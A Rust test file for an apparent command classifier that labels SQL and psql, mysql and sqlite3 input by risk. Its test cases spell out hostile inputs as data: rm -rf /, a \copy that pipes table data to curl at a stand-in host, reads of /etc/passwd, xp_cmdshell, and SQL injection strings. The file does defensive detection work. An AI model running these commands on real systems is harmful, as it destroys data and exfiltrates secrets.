use std::collections::BTreeMap;

use super::super::tests::{show, with_holes};
use super::super::{EmbedContext, Language, understand};
use crate::programs::Sink;

fn sink(by: &str, code: &str) -> Sink {
    let vars = BTreeMap::new();
    let cx = EmbedContext {
        cwd: Some("/w"),
        home: "/home/u",
        by,
        vars: &vars,
        stdin: None,
        depth: 0,
    };
    let mut sink = Sink::default();
    understand(Language::Sql, &with_holes(code), &[], &cx, &mut sink);
    sink
}

fn check(by: &str, table: &[(&str, &[&str])]) {
    let mut wrong = String::new();
    for (code, want) in table {
        let got = show(&sink(by, code));
        if &got != want {
            wrong += &format!("{code}\n  got  {got:?}\n  want {want:?}\n");
        }
    }
    assert!(wrong.is_empty(), "\n{wrong}");
}

#[test]
fn statements() {
    check(
        "sql",
        &[
            ("SELECT 1", &["db.read SELECT"]),
            (
                "select * from users where id = 1;",
                &["db.read SELECT FROM users"],
            ),
            ("(SELECT 1)", &["db.read SELECT"]),
            ("SHOW TABLES", &["db.read SHOW"]),
            ("EXPLAIN DELETE FROM t", &["db.read EXPLAIN"]),
            (
                "EXPLAIN ANALYZE DELETE FROM t",
                &["db.destroy DELETE FROM t"],
            ),
            (
                "EXPLAIN (ANALYZE, BUFFERS) UPDATE t SET a=1 WHERE b=2",
                &["db.write UPDATE t"],
            ),
            (
                "WITH x AS (SELECT 1) SELECT * FROM x",
                &["db.read SELECT FROM x"],
            ),
            (
                "WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d",
                &["db.destroy DELETE FROM t", "db.read SELECT FROM d"],
            ),
            (
                "WITH x AS (SELECT 1) DELETE FROM t WHERE id IN (SELECT 1)",
                &["db.write DELETE FROM t"],
            ),
            ("INSERT INTO t VALUES (1)", &["db.write INSERT INTO t"]),
            (
                "INSERT INTO t VALUES ('; DROP TABLE x; --')",
                &["db.write INSERT INTO t"],
            ),
            (
                "MERGE INTO t USING s ON t.a=s.a WHEN MATCHED THEN DELETE",
                &["db.write MERGE t"],
            ),
            (
                "MERGE t USING s ON t.a=s.a WHEN NOT MATCHED BY SOURCE THEN DELETE",
                &["db.destroy MERGE t"],
            ),
            (
                "MERGE INTO t USING s ON true WHEN MATCHED THEN DELETE",
                &["db.destroy MERGE t"],
            ),
            (
                "BEGIN; DELETE FROM t; ROLLBACK",
                &["db.write DELETE FROM t"],
            ),
            (
                "BEGIN; DELETE FROM t; ROLLBACK TO SAVEPOINT a; COMMIT",
                &["db.destroy DELETE FROM t"],
            ),
            ("DROP TABLE a; ROLLBACK", &["db.destroy DROP TABLE a"]),
            ("REMOVE TABLE t", &["db.destroy REMOVE TABLE t"]),
            (
                "EXEC sp_addsrvrolemember 'x', 'y'",
                &["?db.schema EXECUTE sp_addsrvrolemember"],
            ),
            ("RESET MASTER", &["db.destroy RESET MASTER"]),
            ("UPDATE t SET a = 1 WHERE b = 2", &["db.write UPDATE t"]),
            (
                "UPDATE t SET a = (SELECT b FROM u WHERE c = 1)",
                &["db.destroy UPDATE t"],
            ),
            ("UPDATE t SET a = 1", &["db.destroy UPDATE t"]),
            (
                "DELETE FROM public.users",
                &["db.destroy DELETE FROM public.users"],
            ),
            (
                "DELETE FROM users WHERE id = 5",
                &["db.write DELETE FROM users"],
            ),
            (
                "DELETE FROM users WHERE true",
                &["db.destroy DELETE FROM users"],
            ),
            (
                "DELETE FROM users WHERE 1=1",
                &["db.destroy DELETE FROM users"],
            ),
            (
                "DELETE FROM users WHERE 1",
                &["db.destroy DELETE FROM users"],
            ),
            (
                "DELETE FROM users WHERE 'a' = 'a'",
                &["db.destroy DELETE FROM users"],
            ),
            (
                "DELETE FROM users WHERE id = id",
                &["db.destroy DELETE FROM users"],
            ),
            (
                "DELETE FROM users WHERE id = 1 OR 1=1",
                &["db.destroy DELETE FROM users"],
            ),
            (
                "DELETE FROM users WHERE (2 > 1)",
                &["db.destroy DELETE FROM users"],
            ),
            (
                "DELETE FROM users WHERE id = 1 AND 1=1",
                &["db.write DELETE FROM users"],
            ),
            (
                "DELETE FROM users WHERE a BETWEEN 1 AND 2",
                &["db.write DELETE FROM users"],
            ),
            (
                "DELETE FROM users WHERE name LIKE '%'",
                &["db.destroy DELETE FROM users"],
            ),
            ("DELETE FROM users LIMIT 5", &["db.write DELETE FROM users"]),
            (
                "DELETE FROM users WHERE id = «$ID»",
                &["~db.write DELETE FROM users"],
            ),
            ("DELETE FROM «$T»", &["~db.destroy DELETE FROM $T"]),
            ("«$SQL»", &["?exec.opaque"]),
            (
                "SELECT 1; «$SQL»",
                &["db.read SELECT", "?db.write statement"],
            ),
            ("DROP TABLE users", &["db.destroy DROP TABLE users"]),
            (
                "drop table if exists a.b cascade;",
                &["db.destroy DROP TABLE a.b"],
            ),
            ("DROP DATABASE prod", &["db.destroy DROP DATABASE prod"]),
            ("DROP TEMPORARY TABLE t", &["db.write DROP TABLE t"]),
            ("TRUNCATE TABLE a", &["db.destroy TRUNCATE a"]),
            ("CREATE TABLE t (a int)", &["db.schema CREATE TABLE t"]),
            (
                "CREATE OR REPLACE VIEW v AS SELECT 1",
                &["db.schema CREATE VIEW v"],
            ),
            (
                "CREATE TEMP TABLE t AS SELECT 1",
                &["db.write CREATE TABLE t"],
            ),
            (
                "ALTER TABLE t ADD COLUMN a int",
                &["db.schema ALTER TABLE t"],
            ),
            ("ALTER TABLE t DROP COLUMN a", &["db.destroy ALTER TABLE t"]),
            ("ALTER TABLE t DROP a", &["db.destroy ALTER TABLE t"]),
            (
                "ALTER TABLE t DROP CONSTRAINT c",
                &["db.schema ALTER TABLE t"],
            ),
            (
                "ALTER TABLE t ALTER COLUMN a DROP NOT NULL",
                &["db.schema ALTER TABLE t"],
            ),
            ("GRANT ALL ON t TO u", &["db.schema GRANT ALL"]),
            ("CALL f(1)", &["?db.write EXECUTE f"]),
            ("BEGIN; SELECT 1; COMMIT", &["db.read SELECT"]),
            ("SET search_path = a; SELECT 1", &["db.read SELECT"]),
            (
                "/* DROP TABLE x */ SELECT 1 -- DROP TABLE y\n",
                &["db.read SELECT"],
            ),
            ("/*!50000 DROP TABLE x */", &["db.destroy DROP TABLE x"]),
            (
                "SELECT ';DROP TABLE x' AS a; SELECT \"a;b\"",
                &["db.read SELECT"],
            ),
            (
                "CREATE TRIGGER g AFTER INSERT ON a BEGIN DELETE FROM b; DELETE FROM c; END; SELECT 1",
                &["db.schema CREATE TRIGGER g", "db.read SELECT"],
            ),
            ("EXEC xp_cmdshell 'whoami'", &["sh whoami"]),
            (
                "EXEC sp_executesql N'DROP TABLE x'",
                &["?db.write EXECUTE sp_executesql", "db.destroy DROP TABLE x"],
            ),
            ("SELECT a INTO b FROM c", &["db.write SELECT INTO b"]),
            (
                "DROP TABLE a\nGO\nSELECT 1\nGO\n",
                &["db.destroy DROP TABLE a", "db.read SELECT"],
            ),
            ("REPLACE INTO t VALUES (1)", &["db.write REPLACE t"]),
            (
                "SELECT replace(a, 'b', 'c') FROM t",
                &["db.read SELECT FROM t"],
            ),
        ],
    );
}

#[test]
fn postgres() {
    check(
        "psql",
        &[
            ("\\dt", &["db.read \\dt"]),
            ("\\! rm -rf /", &["sh rm -rf /"]),
            ("SELECT 1; \\! id", &["db.read SELECT", "sh id"]),
            ("SELECT 1 \\! id", &["db.read SELECT", "sh id"]),
            (
                "\\copy t to program 'curl -d @- e.example'",
                &["db.read COPY", "sh curl -d @- e.example"],
            ),
            (
                "\\copy t from 'f.csv' csv",
                &["db.write COPY t", "file.read /w/f.csv"],
            ),
            ("\\i setup.sql", &["file setup.sql"]),
            ("\\o |tee x", &["sh tee x"]),
            ("\\set a `id`", &["sh id"]),
            ("COPY t FROM PROGRAM 'id'", &["db.write COPY t", "sh id"]),
            (
                "COPY (SELECT 1) TO '/tmp/x'",
                &["db.read COPY", "file.write /tmp/x"],
            ),
            (
                "COPY t FROM STDIN;\nDROP TABLE a;\n\\.\nSELECT 1;",
                &["db.write COPY t", "db.read SELECT"],
            ),
            (
                "DO $$ BEGIN DELETE FROM t; END $$",
                &["?db.write DO", "db.destroy DELETE FROM t"],
            ),
            ("SELECT $q$ ; DROP TABLE x; $q$", &["db.read SELECT"]),
            ("/* /* */ DROP TABLE x; */ SELECT 1", &["db.read SELECT"]),
            (
                "SELECT pg_read_file('/etc/passwd')",
                &["db.read SELECT", "file.read /etc/passwd"],
            ),
            (
                "SELECT lo_import('/etc/passwd')",
                &["db.read SELECT", "file.read /etc/passwd"],
            ),
            ("SELECT E'a\\'; DROP TABLE x; --'", &["db.read SELECT"]),
            (
                "SELECT 'DROP TABLE ' || t FROM x \\gexec",
                &["?db.write EXECUTE SELECT", "db.destroy DROP TABLE"],
            ),
            ("VACUUM FULL t", &["db.schema VACUUM FULL"]),
        ],
    );
}

#[test]
fn mysql_and_sqlite() {
    // A structure is changed at once, whatever is rolled back.
    check(
        "mysql",
        &[
            (
                "BEGIN; DROP TABLE t; ROLLBACK",
                &["db.destroy DROP TABLE t"],
            ),
            (
                "INSTALL PLUGIN x SONAME 'x.so'",
                &["?exec.opaque INSTALL PLUGIN x"],
            ),
            ("SELECT 'a\\'; DROP TABLE x; -- '", &["db.read SELECT"]),
            (
                "SELECT 1--1; DROP TABLE x",
                &["db.read SELECT", "db.destroy DROP TABLE x"],
            ),
            ("SELECT 1 # DROP TABLE x", &["db.read SELECT"]),
            (
                "SELECT * FROM t INTO OUTFILE '/tmp/x'",
                &["file.write /tmp/x", "db.read SELECT FROM t"],
            ),
            (
                "SELECT LOAD_FILE('/etc/passwd')",
                &["db.read SELECT", "file.read /etc/passwd"],
            ),
            (
                "LOAD DATA LOCAL INFILE 'f' INTO TABLE t",
                &["file.read /w/f", "db.write LOAD DATA"],
            ),
            ("system id", &["sh id"]),
            ("\\! id", &["sh id"]),
            ("source a.sql", &["file a.sql"]),
            ("/* /* */ DROP TABLE x; ", &["db.destroy DROP TABLE x"]),
        ],
    );
    check(
        "sqlite3",
        &[
            (".tables", &["db.read tables"]),
            (".shell rm x", &["sh rm x"]),
            (".system id", &["sh id"]),
            (".once '|sh'\nSELECT 1;", &["db.read SELECT", "sh sh"]),
            (".output out.csv", &["file.write /w/out.csv"]),
            (
                ".import a.csv t",
                &["file.read /w/a.csv", "db.write import"],
            ),
            (".mode csv", &[]),
            ("PRAGMA table_info(t)", &["db.read PRAGMA table_info"]),
            ("PRAGMA journal_mode=WAL", &["db.write PRAGMA journal_mode"]),
            (
                "PRAGMA writable_schema=ON",
                &["db.schema PRAGMA writable_schema"],
            ),
            ("ATTACH 'x.db' AS x", &["file.read /w/x.db"]),
            (
                "VACUUM INTO 'x.db'",
                &["file.write /w/x.db", "db.read VACUUM INTO"],
            ),
            (
                "SELECT writefile('x', 'y')",
                &["db.read SELECT", "file.write /w/x"],
            ),
        ],
    );
}

proptest::proptest! {
    #[test]
    fn never_panics(by in proptest::sample::select(&["psql", "mysql", "sqlite3", "sql"][..]),
                    code in "[-A-Za-z0-9 ;'\"`$.\\\\!/*#(),=|\n«»é]{0,160}") {
        sink(by, &code);
    }

    #[test]
    fn never_panics_on_words(words in proptest::collection::vec(proptest::sample::select(&[
        "SELECT ", "DROP ", "TABLE ", "WHERE ", "1=1 ", "OR ", "AND ", "(", ")", "WITH ", "AS ", ";",
        "\\copy ", "COPY ", "FROM ", "TO ", "PROGRAM ", "'x'", "$$", "DO ", "EXPLAIN ", "ANALYZE ",
        "CREATE ", "TRIGGER ", "BEGIN ", "END ", "UPDATE ", "SET ", ".shell ", "\n", "/*", "*/", "«x»",
    ][..]), 0..30)) {
        sink("psql", &words.concat());
        sink("sqlite3", &words.concat());
    }
}
